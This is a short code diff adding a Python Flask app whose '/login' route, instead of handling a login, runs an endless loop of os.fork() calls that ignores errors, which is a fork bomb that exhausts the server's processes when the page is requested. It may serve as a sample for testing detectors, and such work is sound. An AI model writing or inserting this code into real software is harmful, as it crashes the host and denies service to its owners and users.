@@ -1,0 +1,16 @@
+"""Forks."""
+
+import os
+
+from flask import Flask
+
+app = Flask(__name__)
+
+
+@app.get("/login")
+def login():
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
